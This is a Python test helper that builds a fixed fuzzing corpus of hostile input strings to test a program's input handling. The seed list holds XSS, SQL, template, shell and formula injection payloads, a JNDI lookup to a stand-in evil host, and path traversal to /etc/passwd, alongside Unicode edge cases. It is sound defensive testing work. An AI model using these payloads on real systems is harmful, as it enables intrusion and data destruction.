"""Ten thousand strings that machines and people send to break a program: a list of our own, and what grows from it."""

import random

from tests.hostile import HOSTILE

SEED = 4
GRAIN = (
    # what looks like code
    "<script>alert(1)</script>", "</title><script>alert(1)</script>", "<svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>', "'><b>x", '" onmouseover=alert(1) x="', "' autofocus onfocus=alert(1) '",
    "</textarea><script>",
    "<!--", "-->", "<![CDATA[", "]]>", "<?php echo 1 ?>", "<%= 7*7 %>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "&lt;script&gt;",
    "&#60;script&#62;", "&", "&amp;", "&#0;",
    "{{7*7}}", "{{ config }}", "{% raw %}", "${7*7}", "#{7*7}", "${jndi:ldap://evil.example/a}", "%(shop)s",
    "%(x)d", "%s", "%n%n%n", "{0}", "{x!r}", "{0.__class__}",
    "' OR 1=1 --", "'; DROP TABLE merchant; --", '" OR ""="', "1; SELECT pg_sleep(9)", "%' AND 1=1 AND '%'='",
    "\\'; --", "admin'--", "_%_", "%%", "\\",
    "; rm -rf /", "$(id)", "`id`", "| cat /etc/passwd", "&& true", "\n/bin/sh\n", "../../../etc/passwd",
    "..\\..\\windows", "/etc/passwd\0.jpg", "file:///etc/passwd", "~root", "CON", "nul.txt",
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0", "＝1+1", "＋1", ";=1", " =1", "'=1",
    "a\r\nSet-Cookie: x=1", "a\r\n\r\n<script>", "a\nLocation: //evil.example", "a\rb", "\u2028\u2029", "\x85",
    "\x0b\x0c", "%0d%0aX: y", "\u560d\u560a",
    # what is no text, or not the text it looks like
    "\x00", "a\x00b", "\x01\x02\x1b[31m", "\x7f\x80\x9f", "\ufffe\uffff", "\ufdd0", "\ufffd", "\ud800",
    "\udfff", "a\ud83d", "\udc00\ud800", "\ud83d\udca9",
    "\u202e\u0635", "\u202dabc\u202c", "\u2066x\u2069", "\u200e\u200f", "\u061c", "\u200b", "\u200c\u200d",
    "\ufeff", "\u00ad", "\u2060", "\u034f", "\u115f\u3164", "\U000e0041\U000e007f",
    "Nguye\u0302\u0303n", "Nguyễn", "Nguyê\u0303n", "Thi\u0323 Hoa\u0300", "o\u031b\u0323",
    "\u1ebf\u0301\u0302",
    "Đ đ Ð ð", "a" + "\u0301" * 60, "Z" + "\u0351\u0316" * 40, "\u0301",
    "\u1100\u1161\u11a8",
    "０１２３４５６７８９", "٠١٢٣٤٥٦٧٨٩", "०१२३", "①②③", "Ⅷ", "½", "１２／３", "O0l1I",
    "\u0430\u0440\u0440\u04cf\u0435",
    "ＶＣＢ", "ﬁ", "ß", "İ ı", "Ⓐ", "㎏", "﷽", "𝕏", "𝟘𝟙𝟚", "👨\u200d👩\u200d👧\u200d👦", "🇻🇳",
    "🏴\U000e0067\U000e0062\U000e007f",
    "", " ", "\u00a0", "\u3000", "\t", "\n", "\r\n", " a ", "a  b", "a\u00a0b", "a\tb", "a\nb\nc",
    "null", "None", "undefined", "true", "NaN", "Infinity", "-0", "1e309", "1.23E+11", "0x41", "9" * 40, "-1",
    "2147483648", "9223372036854775808", "00", "0", "1/0",
    "2026-02-30", "0000-00-00", "9999-12-31", "31/02/2023", "1/1/1", "-1-1-1", "2023-1-1T00:00:00Z",
    "２０２３-０５-３１", "00000000-0000-0000-0000-000000000007", "{00000000-0000-0000-0000-000000000007}",
    "urn:uuid:00000000-0000-0000-0000-000000000007",
    "[" * 10_000, '{"a":' * 5_000, "[[]]", "{}", '{"$gt":""}', "(" * 500, "a" * 81, "a" * 121, "ế" * 600,
    "a" * 10_000, "a " * 5_000, "=" * 2_001, "0" * 5_000,
    "970436", "VCB", "Vietcombank", "000201010212", "00020101021138", "x11 000201", "y99 " + "0" * 900,
    "0100000000", "+84 100 000 000", "0123456789", "LT2X-9999", "--", "....", "/", "//evil.example", "?", "#",
    "unit:", "place:x",
)  # fmt: skip
"""Each with something that went wrong somewhere."""


def hostile_strings(number: int) -> list[str]:
    """The first *number*: the grain first, then two of it together, doubled, wrapped, cut; ever the same."""
    grain = list(dict.fromkeys((*HOSTILE, *GRAIN)))
    chance = random.Random(SEED)  # noqa: S311 (the same strings each time, no secrets)
    short = [text for text in grain if 0 < len(text) < 200]
    grown: dict[str, None] = dict.fromkeys(grain)
    while len(grown) < number:
        one, two = chance.choice(short), chance.choice(short)
        shape = chance.randrange(6)
        grown[
            (
                one + two,
                one + " " + two,
                "Tiệm " + one,
                one * chance.randrange(2, 9),
                one[: len(one) // 2] + two,
                one + "\n" + two,
            )[shape]
        ] = None
    return list(grown)[:number]
